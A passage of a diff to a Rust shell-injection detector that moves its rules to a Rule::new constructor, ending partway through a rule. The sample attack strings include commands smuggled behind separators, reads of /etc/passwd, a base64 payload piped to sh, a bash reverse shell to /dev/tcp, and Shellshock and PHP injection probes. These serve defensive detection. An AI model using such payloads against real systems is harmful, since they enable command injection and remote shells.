@@ -6,192 +6,208 @@
 
 use crate::detect::{Class, Rule};
 
-const fn rule(
-    id: &'static str,
-    weight: u16,
-    why: &'static str,
-    attacks: &'static [&'static str],
-    benign: &'static [&'static str],
-) -> Rule {
-    Rule { id, class: Class::Shell, weight, why, attacks, benign }
-}
-
-pub(super) static SEPARATOR: Rule = rule(
+pub(super) static SEPARATOR: Rule = Rule::new(
+    Class::Shell,
     "shell.separator",
     40,
     "starts a command behind a separator",
     &["x; cat /etc/passwd", "a | whoami"],
     &["dogs; cat food & more", "a | b | cat", "Tom & Python"],
 );
-pub(super) static NEWLINE: Rule = rule(
+pub(super) static NEWLINE: Rule = Rule::new(
+    Class::Shell,
     "shell.new-line",
     20,
     "starts a command on a line of its own",
     &["x\ncat /etc/passwd"],
     &["first\nfind the rest\nsort it"],
 );
-pub(super) static LEADING: Rule = rule(
+pub(super) static LEADING: Rule = Rule::new(
+    Class::Shell,
     "shell.leading-separator",
     20,
     "starts with a separator",
     &["; ls -la", "|id"],
     &["& more", "| id | name |", "| table | head |"],
 );
-pub(super) static SUBSTITUTION: Rule = rule(
+pub(super) static SUBSTITUTION: Rule = Rule::new(
+    Class::Shell,
     "shell.substitution",
     50,
     "asks for the output of a command",
     &["$(whoami)", "`uname -a`", "<(cat /etc/passwd)"],
     &["use `id` to see it", "$(document).ready", "cost $(5)"],
 );
-pub(super) static CALL: Rule = rule(
+pub(super) static CALL: Rule = Rule::new(
+    Class::Shell,
     "shell.call",
     80,
     "passes a command to a function that runs it",
     &["system('cat /etc/passwd')", "exec('ls')"],
     &["the system ('metric') works", "format('x + 1')"],
 );
-pub(super) static WHOLE: Rule = rule(
+pub(super) static WHOLE: Rule = Rule::new(
+    Class::Shell,
     "shell.whole-value",
     20,
     "is a command line",
     &["cat /etc/passwd", "ls -l /etc/"],
     &["ping 127.0.0.1", "git commit -m 'fix; update docs'", "nc 8000 controller", "find my order"],
 );
-pub(super) static CERTAIN: Rule = rule(
+pub(super) static CERTAIN: Rule = Rule::new(
+    Class::Shell,
     "shell.certain-program",
     60,
     "names a program that is no everyday word",
     &["x;whoami", "$(uname)"],
     &["whoami", "what does ifconfig do"],
 );
-pub(super) static TOOL: Rule = rule(
+pub(super) static TOOL: Rule = Rule::new(
+    Class::Shell,
     "shell.tool",
     50,
     "names a tool or interpreter",
     &["; ls -la", "|| perl -e 'print 1'"],
     &["Tom & Python", "bash away in the gym"],
 );
-pub(super) static EVERYDAY: Rule = rule(
+pub(super) static EVERYDAY: Rule = Rule::new(
+    Class::Shell,
     "shell.everyday-program",
     20,
     "names a program that is an everyday word too",
     &["; cat /etc/passwd", "|id|"],
     &["dogs; cat food", "sort; find; more"],
 );
-pub(super) static PROGRAM_PATH: Rule = rule(
+pub(super) static PROGRAM_PATH: Rule = Rule::new(
+    Class::Shell,
     "shell.program-path",
     60,
     "names a program by its path",
     &["a;/usr/bin/id", "/bin/ls -al"],
     &["see /usr/bin for more", "/bin/"],
 );
-pub(super) static HIDDEN_PROGRAM: Rule = rule(
+pub(super) static HIDDEN_PROGRAM: Rule = Rule::new(
+    Class::Shell,
     "shell.spelled-program",
     80,
     "spells the name of a program with characters that the shell removes",
     &["w\\ho\\am\\i", ";c''at /etc/pas''swd", "who$@ami"],
     &["don't", "C:\\who\\am\\i.txt", "O'Connor"],
 );
-pub(super) static GLOBBED: Rule = rule(
+pub(super) static GLOBBED: Rule = Rule::new(
+    Class::Shell,
     "shell.globbed-path",
     100,
     "names a program by wildcards",
     &["/???/c?t", "; /b?n/l?"],
     &["what???/who?", "/path/to/?x=1"],
 );
-pub(super) static BLANK: Rule = rule(
+pub(super) static BLANK: Rule = Rule::new(
+    Class::Shell,
     "shell.spelled-blank",
     60,
     "separates words by an expansion instead of a blank",
     &["cat$IFS/etc/passwd", "{cat,/etc/passwd}", ";ls${IFS}-la"],
     &["{a,b}", "set IFS to a comma"],
 );
-pub(super) static OPTION: Rule = rule(
+pub(super) static OPTION: Rule = Rule::new(
+    Class::Shell,
     "shell.argument",
     40,
     "gives a command an option, a path or an address",
     &["; ls -la", "x|curl http://example.com/x"],
     &["more -or- less", "see http://example.com/"],
 );
-pub(super) static SECOND_ARGUMENT: Rule = rule(
+pub(super) static SECOND_ARGUMENT: Rule = Rule::new(
+    Class::Shell,
     "shell.arguments",
     20,
     "gives a command arguments of several kinds",
     &["ping -i 30 127.0.0.1"],
     &["ping 127.0.0.1"],
 );
-pub(super) static SENSITIVE_FILE: Rule = rule(
+pub(super) static SENSITIVE_FILE: Rule = Rule::new(
+    Class::Shell,
     "shell.sensitive-file",
     40,
     "gives a command a file that attackers read first",
     &["cat /etc/passwd", "type C:\\boot.ini"],
     &["the passwd file", "hosts and guests"],
 );
-pub(super) static NUMBER: Rule = rule(
+pub(super) static NUMBER: Rule = Rule::new(
+    Class::Shell,
     "shell.number-argument",
     20,
     "gives a command one number",
     &["; sleep 10", "&& sleep 5"],
     &["sleep 8", "head 5"],
 );
-pub(super) static LONE: Rule = rule(
+pub(super) static LONE: Rule = Rule::new(
+    Class::Shell,
     "shell.lone-program",
     20,
     "consists of one program set apart from all else",
     &["|id", "`id`", "& dir"],
     &["a|id", "Tom & Python"],
 );
-pub(super) static TRAILING: Rule = rule(
+pub(super) static TRAILING: Rule = Rule::new(
+    Class::Shell,
     "shell.trailing-separator",
     20,
     "ends the command so that what follows is another",
     &["a;id;", "a|id|"],
     &["dogs; cats;", "one | two |"],
 );
-pub(super) static PIPED: Rule = rule(
+pub(super) static PIPED: Rule = Rule::new(
+    Class::Shell,
     "shell.piped-to-interpreter",
     60,
     "pipes into an interpreter",
     &["echo aWQ=|base64 -d|sh", "head -c9 /tmp/x | sh"],
     &["oil | bash", "write php | node"],
 );
-pub(super) static ENCODED: Rule = rule(
+pub(super) static ENCODED: Rule = Rule::new(
+    Class::Shell,
     "shell.inline-code",
     60,
     "hands code to an interpreter",
     &["powershell -enc SQBFAFgA", "cmd /c dir", "bash -c 'id'"],
     &["bash on windows", "perl of wisdom"],
 );
-pub(super) static NETWORK: Rule = rule(
+pub(super) static NETWORK: Rule = Rule::new(
+    Class::Shell,
     "shell.network-device",
     100,
     "opens a connection through the shell",
     &["bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"],
     &["the /dev/tcp feature", "/dev/null"],
 );
-pub(super) static SHELLSHOCK: Rule = rule(
+pub(super) static SHELLSHOCK: Rule = Rule::new(
+    Class::Shell,
     "shell.shellshock",
     100,
     "defines a shell function with code behind it",
     &["() { :;}; echo vulnerable"],
     &["() => { x }", "function() { return 1; }"],
 );
-pub(super) static INTERPOLATION: Rule = rule(
+pub(super) static INTERPOLATION: Rule = Rule::new(
+    Class::Shell,
     "shell.php-interpolation",
     100,
     "calls a function from within a string that PHP fills in",
     &["{${sleep(20)}}", "${@print(md5(1))}"],
     &["${price}", "${user.name()}", "{${name}}"],
 );
-pub(super) static PROBE: Rule = rule(
+pub(super) static PROBE: Rule = Rule::new(
+    Class::Shell,
     "shell.php-probe",
     100,
     "calls a PHP function that only shows that code runs",
     &[";phpinfo();//", "phpinfo();"],
     &["call phpinfo() to see it", "phpinfo"],
 );
-pub(super) static INCLUDE: Rule = rule(
+pub(super) static INCLUDE: Rule = Rule::new(
+    Class::Shell,
     "shell.server-include",
     100,
     "asks the web server to run or include something",
